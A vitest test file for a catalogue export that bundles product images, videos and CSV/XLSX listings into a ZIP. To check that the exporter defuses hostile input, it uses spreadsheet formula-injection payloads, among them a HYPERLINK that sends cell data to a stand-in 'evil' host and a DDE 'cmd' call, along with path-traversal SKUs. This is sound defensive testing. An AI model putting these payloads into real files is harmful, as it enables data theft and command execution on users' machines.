import { execFile } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough, Readable, Writable } from 'node:stream'
import { promisify } from 'node:util'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import sharp from 'sharp'
import { afterAll, describe, expect, it } from 'vitest'
import type { Db } from '#server/db/client.ts'
import { presetExporter } from '#server/features/marketplaces/marketplace-export.service.ts'
import {
  createInspections,
  createVideoSlots,
  type MarketplaceDeps,
} from '#server/features/marketplaces/marketplaces.service.ts'
import { getProfile } from '#shared/marketplaces/profiles.ts'
import { codePointLength } from '#shared/marketplaces/text.ts'
import { type Unzipped, unzip } from '#tests/support/unzip.ts'
import {
  type CatalogueExportInput,
  type ExportFile,
  type ExportPreset,
  type ExportProduct,
  writeCatalogueExport,
} from './catalogue-export.ts'

const workRoot = mkdtempSync(join(tmpdir(), 'vitrin-export-test-'))
afterAll(() => rmSync(workRoot, { recursive: true, force: true }))

/** A writable that keeps what it is given. */
function collector() {
  const chunks: Buffer[] = []
  const out = new Writable({
    write(chunk: Buffer, _encoding, callback) {
      chunks.push(chunk)
      callback()
    },
  })
  return { out, bytes: () => Buffer.concat(chunks) }
}

/** Bytes as a stream of 64 KB pieces, read only as fast as the reader asks. */
function chunked(bytes: Buffer): Readable {
  const pieces: Buffer[] = []
  for (let at = 0; at < bytes.length; at += 64 * 1024) pieces.push(bytes.subarray(at, at + 64 * 1024))
  return Readable.from(pieces, { objectMode: false })
}

/** Stored files by key, and an openFile over them that counts what is open. */
function fakeStorage() {
  const files = new Map<string, Buffer>()
  const opened: string[] = []
  const streams: Readable[] = []
  let open = 0
  let mostOpen = 0
  return {
    add(kind: ExportFile['kind'], mime: string, bytes: Buffer): ExportFile {
      const assetId = `asset-${files.size + 1}`
      const storageKey = `user-1/${assetId}`
      files.set(storageKey, bytes)
      return { assetId, kind, mime, storageKey }
    },
    bytesOf: (file: ExportFile) => files.get(file.storageKey) as Buffer,
    opened,
    streams,
    get mostOpen() {
      return mostOpen
    },
    openFile: async (file: ExportFile): Promise<Readable> => {
      const bytes = files.get(file.storageKey)
      if (!bytes) throw new Error(`no file ${file.storageKey}`)
      opened.push(file.storageKey)
      const stream = chunked(bytes)
      streams.push(stream)
      open++
      mostOpen = Math.max(mostOpen, open)
      // Done once read to the end ('close' follows a tick later) or destroyed.
      let isOpen = true
      const done = () => {
        if (isOpen) open--
        isOpen = false
      }
      stream.once('end', done)
      stream.once('close', done)
      return stream
    },
  }
}

async function* listOf(products: ExportProduct[], onDone?: () => void): AsyncGenerator<ExportProduct> {
  try {
    for (const product of products) yield product
  } finally {
    onDone?.()
  }
}

function product(line: number, sku: string, overrides: Partial<ExportProduct> = {}): ExportProduct {
  return { line, sku, name: `Ürün ${line}`, cells: [sku, `Ürün ${line}`], files: [], seo: null, ...overrides }
}

function inputFor(
  storage: ReturnType<typeof fakeStorage>,
  products: ExportProduct[],
  extra: Partial<CatalogueExportInput> = {},
): CatalogueExportInput {
  return {
    headers: ['Stok Kodu', 'Ürün Adı'],
    products: listOf(products),
    openFile: storage.openFile,
    preset: null,
    locale: 'tr',
    tempDir: workRoot,
    ...extra,
  }
}

async function exportToBuffer(input: CatalogueExportInput): Promise<Unzipped[]> {
  const { out, bytes } = collector()
  await writeCatalogueExport(out, input)
  return unzip(bytes())
}

function entry(entries: Unzipped[], name: string): Unzipped {
  const found = entries.find((e) => e.name === name)
  if (!found) throw new Error(`no entry ${name} in ${entries.map((e) => e.name).join(', ')}`)
  return found
}

function csvRows(entries: Unzipped[]): string[][] {
  return parse(entry(entries, 'listing.csv').bytes, { bom: true, delimiter: ';', relaxColumnCount: false })
}

/**
 * A CSV's cells as a spreadsheet reads them with `separator`: quotes open a quoted cell only at
 * the cell's start (`""` inside is one quote, text after the closing quote is kept); a line break
 * outside quotes ends the record.
 */
function spreadsheetCells(text: string, separator: string): string[] {
  const cells: string[] = []
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      at++
      while (at < text.length) {
        if (text[at] === '"' && text[at + 1] === '"') {
          cell += '"'
          at += 2
        } else if (text[at] === '"') {
          at++
          break
        } else cell += text[at++]
      }
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n') {
      cell += text[at++]
    }
    cells.push(cell)
    if (text[at] === '\r' && text[at + 1] === '\n') at += 2
    else at++
  }
  return cells
}

async function xlsxSheet(entries: Unzipped[]): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(entry(entries, 'listing.xlsx').bytes as unknown as ArrayBuffer)
  const sheet = workbook.worksheets[0]
  if (!sheet) throw new Error('no sheet')
  return sheet
}

/** Every cell of a sheet as text, checking on the way that each one is a plain string. */
function sheetRows(sheet: ExcelJS.Worksheet): string[][] {
  const rows: string[][] = []
  sheet.eachRow({ includeEmpty: true }, (row) => {
    const cells: string[] = []
    for (let column = 1; column <= sheet.columnCount; column++) {
      const cell = row.getCell(column)
      expect(cell.formula).toBeUndefined()
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Null]).toContain(cell.type)
      cells.push(cell.type === ExcelJS.ValueType.Null ? '' : (cell.value as string))
    }
    rows.push(cells)
  })
  return rows
}

describe('catalogue export: files', () => {
  it('puts each product’s files in its SKU folder, named by order and type, stored byte for byte', async () => {
    const storage = fakeStorage()
    const studio = storage.add('image', 'image/jpeg', randomBytes(300_000))
    const fashion = storage.add('image', 'image/png', randomBytes(120_000))
    const video = storage.add('video', 'video/mp4', randomBytes(900_000))
    const only = storage.add('image', 'image/webp', randomBytes(50_000))
    const entries = await exportToBuffer(
      inputFor(storage, [
        product(2, 'KRM-001', { files: [studio, fashion, video] }),
        product(3, 'ŞAL-Ğ2', { files: [only] }),
        product(4, 'EMPTY-RESULTS'),
      ]),
    )
    expect(entries.map((e) => e.name)).toEqual([
      'KRM-001/KRM-001-1.jpg',
      'KRM-001/KRM-001-2.png',
      'KRM-001/KRM-001-video.mp4',
      'ŞAL-Ğ2/ŞAL-Ğ2-1.webp',
      'listing.csv',
      'listing.xlsx',
    ])
    expect(entry(entries, 'KRM-001/KRM-001-1.jpg').bytes.equals(storage.bytesOf(studio))).toBe(true)
    expect(entry(entries, 'KRM-001/KRM-001-2.png').bytes.equals(storage.bytesOf(fashion))).toBe(true)
    expect(entry(entries, 'KRM-001/KRM-001-video.mp4').bytes.equals(storage.bytesOf(video))).toBe(true)
    expect(entry(entries, 'ŞAL-Ğ2/ŞAL-Ğ2-1.webp').bytes.equals(storage.bytesOf(only))).toBe(true)
    // Photos and videos are already compressed: stored, not deflated again.
    for (const e of entries.slice(0, 4)) expect(e.isStored).toBe(true)
    expect(entry(entries, 'listing.csv').isStored).toBe(false)
    // Every file was read once, one at a time.
    expect(storage.opened).toHaveLength(4)
    expect(storage.mostOpen).toBe(1)
    // The listing's rows waited in a temporary folder that is gone now.
    expect(readdirSync(workRoot)).toEqual([])
  })

  it('names folders safely and once each, whatever the SKUs say', async () => {
    const storage = fakeStorage()
    const skus = [
      '../x',
      'CON',
      'a/b',
      '',
      'ABC',
      'abc',
      'ABC',
      'a\\b',
      'nul.txt',
      '..',
      'x\u0000y\u202Ez',
      '=1+1',
      'Ş'.repeat(200),
    ]
    const products = skus.map((sku, i) =>
      product(i + 2, sku, { files: [storage.add('image', 'image/jpeg', randomBytes(10))] }),
    )
    const entries = await exportToBuffer(inputFor(storage, products))
    const folders = entries.filter((e) => e.name.includes('/')).map((e) => e.name.split('/')[0] as string)
    expect(folders.slice(0, 12)).toEqual([
      '__x',
      '_CON',
      'a_b',
      'line-5',
      'ABC',
      'abc-2',
      'ABC-3',
      'a_b-2',
      '_nul.txt',
      '_',
      'x_y_z',
      '_=1+1',
    ])
    expect(folders[12]).toBe('Ş'.repeat(60))
    expect(new Set(folders.map((f) => f.toLowerCase())).size).toBe(skus.length)
    for (const e of entries) {
      const parts = e.name.split('/')
      expect(parts.length).toBeLessThanOrEqual(2)
      for (const part of parts) {
        expect(part).not.toMatch(/^\.|\.\.|[\\:*?"<>|\p{Cc}]/u)
        expect(Buffer.byteLength(part)).toBeLessThan(255)
      }
    }
    // The file inside is named by the same safe name.
    expect(entry(entries, '__x/__x-1.jpg').bytes).toHaveLength(10)
  })
})

describe('catalogue export: listing', () => {
  const header = ['Stok Kodu', 'Ürün Adı', 'Açıklama']
  const tricky = 'Fiyat; 12,50 TL\n"Özel" seri\r\nİşğ ıİ çÇ öÖ üÜ'

  async function exportListing(locale: 'tr' | 'en') {
    const storage = fakeStorage()
    const image1 = storage.add('image', 'image/jpeg', randomBytes(100))
    const image2 = storage.add('image', 'image/png', randomBytes(100))
    const video = storage.add('video', 'video/mp4', randomBytes(100))
    const products = [
      product(2, 'KRM-001', {
        cells: ['KRM-001', 'İpek Eşarp', tricky],
        files: [image1, image2, video],
        seo: {
          title: 'İpek Eşarp — Kırmızı',
          description: 'Yumuşak; şık "ipek" eşarp.',
          features: ['%100 ipek', 'El yapımı'],
          keywords: ['eşarp', 'ipek', 'şal'],
        },
      }),
      // Fewer results than the widest row, no SEO, and a cell past the headers.
      product(3, 'KRM-002', { cells: ['KRM-002', 'Ağır Çorap', 'Sıcak', 'extra'], files: [image1] }),
    ]
    return exportToBuffer(inputFor(storage, products, { headers: header, locale }))
  }

  it('writes listing.csv as Turkish Excel opens it: BOM, `;`, CRLF, RFC 4180 quoting, Turkish letters intact', async () => {
    const entries = await exportListing('tr')
    const raw = entry(entries, 'listing.csv').bytes
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = raw.toString('utf8')
    expect(text).toContain('İşğ ıİ çÇ öÖ üÜ')
    // Every record ends in CRLF; the bare LF is inside a quoted field.
    expect(text.endsWith('\r\n')).toBe(true)
    expect(text).toContain('"Fiyat; 12,50 TL\n""Özel"" seri\r\nİşğ ıİ çÇ öÖ üÜ"')
    expect(text.slice(1).split('\r\n')[0]).toBe(
      'SEO başlığı;Meta açıklama;Özellikler;Anahtar kelimeler;Vitrin görseli 1;Vitrin görseli 2;Vitrin videosu;Stok Kodu;Ürün Adı;Açıklama;',
    )
    expect(csvRows(entries)).toEqual([
      [
        'SEO başlığı',
        'Meta açıklama',
        'Özellikler',
        'Anahtar kelimeler',
        'Vitrin görseli 1',
        'Vitrin görseli 2',
        'Vitrin videosu',
        'Stok Kodu',
        'Ürün Adı',
        'Açıklama',
        '',
      ],
      [
        'İpek Eşarp — Kırmızı',
        'Yumuşak; şık "ipek" eşarp.',
        '%100 ipek | El yapımı',
        'eşarp, ipek, şal',
        'KRM-001/KRM-001-1.jpg',
        'KRM-001/KRM-001-2.png',
        'KRM-001/KRM-001-video.mp4',
        'KRM-001',
        'İpek Eşarp',
        tricky,
        '',
      ],
      ['', '', '', '', 'KRM-002/KRM-002-1.jpg', '', '', 'KRM-002', 'Ağır Çorap', 'Sıcak', 'extra'],
    ])
  })

  it('writes listing.xlsx with the same table, every cell a string, the header bold and frozen', async () => {
    const entries = await exportListing('tr')
    const sheet = await xlsxSheet(entries)
    expect(sheet.name).toBe('Liste')
    // The same table; line breaks in a cell are Excel's LF.
    expect(sheetRows(sheet)).toEqual(
      csvRows(entries).map((row) => row.map((cell) => cell.replace(/\r\n?/g, '\n'))),
    )
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true)
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    const widths = sheet.columns.map((column) => column.width ?? 0)
    expect(Math.min(...widths)).toBeGreaterThanOrEqual(10)
    expect(Math.max(...widths)).toBeLessThanOrEqual(60)
    // The long multi-line description is wider than the SKU column.
    expect(widths[9]).toBeGreaterThan(widths[7] ?? 0)
  })

  it('names every column once, though the list is a marketplace template with its own "Görsel 1"', async () => {
    const storage = fakeStorage()
    const image = storage.add('image', 'image/jpeg', randomBytes(100))
    const entries = await exportToBuffer(
      inputFor(storage, [product(2, 'KRM-001', { cells: ['KRM-001', 'a.jpg', 'x'], files: [image] })], {
        // A list exported before and imported again repeats our own names as well.
        headers: ['Stok Kodu', 'Görsel 1', 'Vitrin görseli 1'],
        locale: 'tr',
      }),
    )
    const [names] = csvRows(entries) as [string[]]
    expect(names).toEqual([
      'SEO başlığı',
      'Meta açıklama',
      'Özellikler',
      'Anahtar kelimeler',
      'Vitrin görseli 1',
      'Stok Kodu',
      'Görsel 1',
      'Vitrin görseli 1 (2)',
    ])
  })

  it('writes its own column headers in English for an English reader, keeping the list’s headers', async () => {
    const entries = await exportListing('en')
    expect(csvRows(entries)[0]).toEqual([
      'SEO title',
      'Meta description',
      'Features',
      'Keywords',
      'Vitrin image 1',
      'Vitrin image 2',
      'Vitrin video',
      'Stok Kodu',
      'Ürün Adı',
      'Açıklama',
      '',
    ])
    expect((await xlsxSheet(entries)).name).toBe('Listing')
  })

  it('neutralises formulas in every cell of both files, and leaves harmless text alone', async () => {
    const hostile = [
      '=HYPERLINK("http://evil","x")',
      '+1+1',
      '-2',
      '@SUM(A1)',
      '\t=1',
      '  =1+1',
      '\r=1',
      '＝1+1',
    ]
    const harmless = ['a=b', '1-2', 'e-posta@örnek.com', "'=already quoted"]
    const storage = fakeStorage()
    const products = [
      product(2, 'P1', {
        cells: [...hostile, ...harmless],
        seo: { title: '=1+2', description: '@cmd', features: ['-x', 'ok'], keywords: ['+k'] },
      }),
    ]
    const headers = ['=HEADER()', ...Array.from({ length: 11 }, (_, i) => `Sütun ${i + 2}`)]
    const entries = await exportToBuffer(inputFor(storage, products, { headers }))
    const expected = [
      ["'=1+2", "'@cmd", "'-x | ok", "'+k", ...hostile.map((cell) => `'${cell}`), ...harmless],
    ]
    const [csvHeader, ...csvBody] = csvRows(entries)
    expect(csvHeader?.[4]).toBe("'=HEADER()")
    // The CSV also defuses what follows the CR, where a reader may start a record.
    expect(csvBody).toEqual(expected.map((row) => row.map((cell) => (cell === "'\r=1" ? "'\r'=1" : cell))))

    const [xlsxHeader, ...xlsxBody] = sheetRows(await xlsxSheet(entries))
    expect(xlsxHeader?.[4]).toBe("'=HEADER()")
    expect(xlsxBody).toEqual(expected.map((row) => row.map((cell) => cell.replace('\r', '\n'))))
  })

  it('starts no cell with a formula character when the CSV is read with `,` or `;`, quoting as RFC 4180 or not', async () => {
    const hostile = [
      'Şal, =HYPERLINK("http://evil/?"&A1,"tıkla")',
      'Eşarp,@SUM(A1)',
      "x,=cmd|' /C calc'!A0",
      'a;+1+1;-2',
      'Renk: kırmızı, -mavi',
      'Özellikler:\n- pamuk\r\n- yıkanır\r=1+1',
      'x,"=1"',
      'iki,\t=1',
      'y,  =1',
      'z,＝1',
    ]
    const storage = fakeStorage()
    const products = [
      product(2, 'P1', {
        name: hostile[0] as string,
        cells: ['P1', ...hostile],
        seo: {
          title: 'Başlık, =1+2',
          description: 'Açıklama\n@cmd',
          features: ['ok', '-x'],
          keywords: ['ipek', '+k', '=1'],
        },
      }),
    ]
    const headers = ['Stok Kodu', ...hostile.map((_, i) => `Sütun ${i + 2}`)]
    const entries = await exportToBuffer(inputFor(storage, products, { headers }))
    const text = entry(entries, 'listing.csv')
      .bytes.toString('utf8')
      .replace(/^\uFEFF/, '')
    const formula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u
    for (const separator of [',', ';']) {
      // As a spreadsheet does (quotes honoured at a cell's start only), and as a naive reader
      // that ignores quotes and cuts at every line break and separator.
      const cells = [...spreadsheetCells(text, separator), ...text.split(/\r\n|\r|\n|[,;]/)]
      expect(cells.length).toBeGreaterThan(20)
      for (const cell of cells) {
        expect(cell, `a cell read with ${separator}`).not.toMatch(formula)
        // Nor once leading spaces and quotes are taken off.
        expect(cell.replace(/^[\s"]+/, ''), `a cell read with ${separator}`).not.toMatch(formula)
      }
    }
    // With the file's own separator every field comes back whole, readable, an apostrophe before
    // each place a formula could start.
    const [, row] = csvRows(entries)
    // The features' ` | ` is no separator: no cell starts after it.
    expect(row?.slice(0, 4)).toEqual(["Başlık,' =1+2", "Açıklama\n'@cmd", 'ok | -x', "ipek,' +k,' =1"])
    expect(row?.slice(4)).toEqual([
      'P1',
      'Şal,\' =HYPERLINK("http://evil/?"&A1,"tıkla")',
      "Eşarp,'@SUM(A1)",
      "x,'=cmd|' /C calc'!A0",
      "a;'+1+1;'-2",
      "Renk: kırmızı,' -mavi",
      "Özellikler:\n'- pamuk\r\n'- yıkanır\r'=1+1",
      'x,\'"=1"',
      "iki,'\t=1",
      "y,'  =1",
      "z,'＝1",
    ])
  })

  it('leaves ordinary text with commas, hyphens and Turkish letters as it was', async () => {
    const harmless = ['12,50 TL', 'e-posta@örnek.com', 'Kırmızı-mavi, ipek; şık', 'Boy: 90-120 cm\nEn: 45']
    const storage = fakeStorage()
    const headers = ['Stok Kodu', 'A', 'B', 'C', 'D']
    const entries = await exportToBuffer(
      inputFor(storage, [product(2, 'P1', { cells: ['P1', ...harmless] })], { headers }),
    )
    expect(csvRows(entries)[1]?.slice(5)).toEqual(harmless)
    // Quoted for the reader that splits on `,` too.
    expect(entry(entries, 'listing.csv').bytes.toString('utf8')).toContain(';"12,50 TL";')
  })

  it('writes the XLSX cells as text, not as formulas, in the file itself', async () => {
    const storage = fakeStorage()
    const entries = await exportToBuffer(
      inputFor(storage, [product(2, 'P1', { cells: ['=HYPERLINK("http://evil","x")', '123'] })]),
    )
    // Read the sheet's XML with yauzl: no <f> (formula) element anywhere, numbers kept as text.
    const xlsxEntries = await unzip(entry(entries, 'listing.xlsx').bytes)
    const sheetXml =
      xlsxEntries.find((e) => e.name === 'xl/worksheets/sheet1.xml')?.bytes.toString('utf8') ?? ''
    expect(sheetXml).toContain('HYPERLINK')
    expect(sheetXml).not.toMatch(/<f[ >]/)
    expect(sheetXml).toMatch(/<c r="F2"[^>]*t="str"><v>123<\/v>/)
  })
})

describe('catalogue export: streaming', () => {
  it('opens the next file only once the previous one has gone out', async () => {
    const storage = fakeStorage()
    const size = 1_500_000
    const files = Array.from({ length: 3 }, () => storage.add('image', 'image/jpeg', randomBytes(size)))
    // A slow reader: each write is acknowledged on a later turn of the event loop.
    let received = 0
    const receivedWhenOpened: number[] = []
    const out = new Writable({
      highWaterMark: 16 * 1024,
      write(chunk: Buffer, _encoding, callback) {
        received += chunk.length
        setImmediate(callback)
      },
    })
    const openFile = async (file: ExportFile) => {
      receivedWhenOpened.push(received)
      return storage.openFile(file)
    }
    await writeCatalogueExport(out, inputFor(storage, [product(2, 'P', { files })], { openFile }))
    expect(storage.mostOpen).toBe(1)
    // When file n+1 is opened, the reader already has file n but for the archive's small buffer.
    for (let n = 1; n < files.length; n++) {
      expect(receivedWhenOpened[n]).toBeGreaterThan(n * size - 128 * 1024)
    }
  })

  it('stops reading and writing when the browser goes away mid-file, leaving nothing open', async () => {
    const storage = fakeStorage()
    const products = Array.from({ length: 5 }, (_, i) =>
      product(i + 2, `P${i}`, { files: [storage.add('video', 'video/mp4', randomBytes(1_000_000))] }),
    )
    const controller = new AbortController()
    let isListClosed = false
    const out = new PassThrough()
    let received = 0
    out.on('data', (chunk: Buffer) => {
      received += chunk.length
      // Halfway through the second product's video, the connection is gone.
      if (received > 1_500_000 && !controller.signal.aborted) controller.abort(new Error('client closed'))
    })
    const outClosed = new Promise<void>((resolve) => out.once('close', () => resolve()))
    const failure = await writeCatalogueExport(
      out,
      inputFor(storage, products, {
        signal: controller.signal,
        products: listOf(products, () => {
          isListClosed = true
        }),
      }),
    ).catch((error: unknown) => error)

    expect(failure).toBeInstanceOf(Error)
    expect((failure as Error).message).toBe('client closed')
    expect(storage.opened).toHaveLength(2)
    expect(storage.streams.every((stream) => stream.destroyed)).toBe(true)
    expect(isListClosed).toBe(true)
    await outClosed
    expect(out.destroyed).toBe(true)
    expect(readdirSync(workRoot)).toEqual([])
  })

  it('stops when the output fails on its own (the response closed), without waiting for a signal', async () => {
    const storage = fakeStorage()
    const products = Array.from({ length: 4 }, (_, i) =>
      product(i + 2, `P${i}`, { files: [storage.add('image', 'image/jpeg', randomBytes(800_000))] }),
    )
    let received = 0
    const out = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        received += chunk.length
        if (received > 1_000_000) callback(new Error('socket hang up'))
        else callback()
      },
    })
    const failure = await writeCatalogueExport(out, inputFor(storage, products)).catch(
      (error: unknown) => error,
    )
    expect((failure as Error).message).toBe('socket hang up')
    expect(storage.opened.length).toBeLessThan(4)
    expect(storage.streams.every((stream) => stream.destroyed)).toBe(true)
  })

  it('refuses to start when already aborted, reading nothing', async () => {
    const storage = fakeStorage()
    const { out } = collector()
    const controller = new AbortController()
    controller.abort()
    await expect(
      writeCatalogueExport(out, inputFor(storage, [product(2, 'P')], { signal: controller.signal })),
    ).rejects.toMatchObject({ name: 'AbortError' })
    expect(storage.opened).toEqual([])
  })

  it('fails, and cuts the archive off, when a stored file cannot be read', async () => {
    const storage = fakeStorage()
    const good = storage.add('image', 'image/jpeg', randomBytes(200_000))
    const broken: ExportFile = {
      assetId: 'gone',
      kind: 'image',
      mime: 'image/jpeg',
      storageKey: 'user-1/gone',
    }
    const out = new PassThrough()
    out.resume()
    const failure = await writeCatalogueExport(
      out,
      inputFor(storage, [product(2, 'A', { files: [good] }), product(3, 'B', { files: [broken] })]),
    ).catch((error: unknown) => error)
    expect((failure as Error).message).toBe('no file user-1/gone')
    expect(out.destroyed).toBe(true)
  })

  it('fails when a file stream breaks halfway', async () => {
    const storage = fakeStorage()
    const file = storage.add('video', 'video/mp4', randomBytes(10))
    const openFile = async () =>
      new Readable({
        read() {
          this.push(randomBytes(64 * 1024))
          this.destroy(new Error('connection reset'))
        },
      })
    const out = new PassThrough()
    out.resume()
    const failure = await writeCatalogueExport(
      out,
      inputFor(storage, [product(2, 'A', { files: [file] })], { openFile }),
    ).catch((error: unknown) => error)
    expect((failure as Error).message).toBe('connection reset')
    expect(out.destroyed).toBe(true)
  })
})

describe('catalogue export: a batch with a marketplace preset', () => {
  const run = promisify(execFile)

  /**
   * Trendyol's preset as the service builds it. Trendyol's target extends the photo's own
   * background, so no mask is needed: neither the database nor the model may be asked.
   */
  function trendyolPreset(): ExportPreset {
    const unused = (what: string) => () => {
      throw new Error(`${what} is not used by an extend-background export`)
    }
    const deps: MarketplaceDeps = {
      db: new Proxy({}, { get: unused('the database') }) as Db,
      storage: new Proxy({}, { get: unused('storage') }) as MarketplaceDeps['storage'],
      segmenter: { segment: async () => unused('the model')() },
      ffmpegPath: 'ffmpeg',
      tempDir: workRoot,
      inspections: createInspections(),
      videoSlots: createVideoSlots(),
    }
    const profile = getProfile('trendyol')
    return presetExporter(deps, profile)
  }

  /** A 1.5 s test-pattern clip: short of Trendyol's 8 s floor. */
  async function shortClip(): Promise<Buffer> {
    const path = join(workRoot, 'short.mp4')
    await run('ffmpeg', [
      '-hide_banner',
      '-loglevel',
      'error',
      '-y',
      '-f',
      'lavfi',
      '-i',
      'testsrc=size=320x240:rate=30',
      '-t',
      '1.5',
      '-c:v',
      'libx264',
      '-preset',
      'veryfast',
      '-pix_fmt',
      'yuv420p',
      '-an',
      path,
    ])
    const bytes = await readFile(path)
    rmSync(path)
    return bytes
  }

  async function durationOf(bytes: Buffer): Promise<number> {
    const path = join(workRoot, 'probe.mp4')
    await writeFile(path, bytes)
    try {
      const { stdout } = await run('ffprobe', [
        '-v',
        'error',
        '-show_entries',
        'format=duration',
        '-of',
        'csv=p=0',
        path,
      ])
      return Number(stdout.trim())
    } finally {
      rmSync(path)
    }
  }

  const longTitle =
    'Anka El Yapımı Hakiki Deri Erkek Cüzdan Kartlık Bölmeli İnce Tasarım Günlük Kullanım İçin Şık ve Dayanıklı Hediye'

  it('renders Trendyol 1200×1800 JPEGs and a lengthened video, named by the rule, with the copy fitted', async () => {
    const storage = fakeStorage()
    const photo = await sharp({
      create: { width: 1080, height: 1080, channels: 3, background: { r: 236, g: 230, b: 222 } },
    })
      .composite([
        {
          input: await sharp({
            create: { width: 500, height: 700, channels: 3, background: { r: 150, g: 40, b: 40 } },
          })
            .png()
            .toBuffer(),
          left: 290,
          top: 190,
        },
      ])
      .png()
      .toBuffer()
    const studio = storage.add('image', 'image/png', photo)
    const fashion = storage.add('image', 'image/png', photo)
    const video = storage.add('video', 'video/mp4', await shortClip())
    const description = 'Yumuşak hakiki deri. '.repeat(10)
    const preset = trendyolPreset()
    const entries = await exportToBuffer(
      inputFor(
        storage,
        [
          product(2, 'KRM-001', {
            files: [studio, fashion, video],
            seo: { title: longTitle, description, features: ['Deri'], keywords: ['cüzdan'] },
          }),
          product(3, '', { name: 'Şal', files: [studio] }),
        ],
        { preset },
      ),
    )
    expect(entries.map((e) => e.name)).toEqual([
      'KRM-001/KRM-001-trendyol-1.jpg',
      'KRM-001/KRM-001-trendyol-2.jpg',
      'KRM-001/KRM-001-trendyol-1.mp4',
      // No SKU: the folder is the line's, the file is named after the product.
      'line-3/Şal-trendyol-1.jpg',
      'listing.csv',
      'listing.xlsx',
    ])
    for (const name of ['KRM-001/KRM-001-trendyol-1.jpg', 'line-3/Şal-trendyol-1.jpg']) {
      const metadata = await sharp(entry(entries, name).bytes).metadata()
      expect(metadata).toMatchObject({ format: 'jpeg', width: 1200, height: 1800, space: 'srgb' })
      expect(metadata.exif).toBeUndefined()
    }
    // Trendyol's video floor is 8 s: the 1.5 s clip comes out past it with margin.
    expect(await durationOf(entry(entries, 'KRM-001/KRM-001-trendyol-1.mp4').bytes)).toBeGreaterThanOrEqual(
      8.2,
    )

    // The listing points at the renamed files, and its title is cut to Trendyol's 100 characters.
    const [header, first, second] = csvRows(entries) as [string[], string[], string[]]
    expect(header.slice(0, 7)).toEqual([
      'SEO başlığı',
      'Meta açıklama',
      'Özellikler',
      'Anahtar kelimeler',
      'Vitrin görseli 1',
      'Vitrin görseli 2',
      'Vitrin videosu',
    ])
    const maxTitle = getProfile('trendyol').copy.titleMax?.value ?? 0
    expect(maxTitle).toBe(100)
    expect(codePointLength(longTitle)).toBeGreaterThan(maxTitle)
    expect(codePointLength(first[0] as string)).toBeLessThanOrEqual(maxTitle)
    expect(longTitle.startsWith(first[0] as string)).toBe(true)
    expect(first.slice(4, 7)).toEqual([
      'KRM-001/KRM-001-trendyol-1.jpg',
      'KRM-001/KRM-001-trendyol-2.jpg',
      'KRM-001/KRM-001-trendyol-1.mp4',
    ])
    expect(second[4]).toBe('line-3/Şal-trendyol-1.jpg')
    // Every stored file was read once, one at a time.
    expect(storage.opened).toHaveLength(4)
    expect(storage.mostOpen).toBe(1)
  }, 120_000)
})
